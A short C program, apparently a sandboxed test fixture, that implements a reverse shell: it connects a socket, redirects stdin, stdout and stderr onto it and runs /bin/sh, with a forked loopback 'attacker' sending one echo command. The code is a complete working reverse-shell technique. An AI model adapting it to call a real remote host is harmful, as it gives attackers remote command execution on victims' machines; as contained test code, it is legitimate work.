/* A reverse shell as an injected payload makes one: connects a TCP socket to the attacker's listener, dup2()s it
 * onto stdin, stdout and stderr, and execs /bin/sh, which then takes its commands from the network.
 * The "attacker" is a forked child of ours listening on the loopback (containers here run with --network none): it
 * sends one command, prints what the shell sent back, and exits. Built with gcc -static for a busybox-only image.
 * Usage: revshell PORT WORD   (stderr, before the redirect: "client port N"; stdout, from the listener: the reply) */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1])),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int one = 1, l = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (l < 0 || bind(l, (struct sockaddr *)&sa, sizeof(sa)) || listen(l, 1)) {
		perror("listener");
		return 3;
	}
	if (fork() == 0) { /* the attacker's end */
		int a = accept(l, NULL, NULL);
		char buf[256];
		ssize_t n;
		dprintf(a, "echo reply-%s; exit\n", argv[2]);
		while ((n = read(a, buf, sizeof(buf))) > 0)
			fwrite(buf, 1, n, stdout);
		fflush(stdout);
		_exit(0);
	}
	close(l);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa))) {
		perror("connect");
		return 4;
	}
	struct sockaddr_in me;
	socklen_t len = sizeof(me);
	getsockname(s, (struct sockaddr *)&me, &len);
	fprintf(stderr, "client port %d\n", ntohs(me.sin_port));
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	close(s);
	execl("/bin/sh", "sh", (char *)NULL);
	return 5;
}
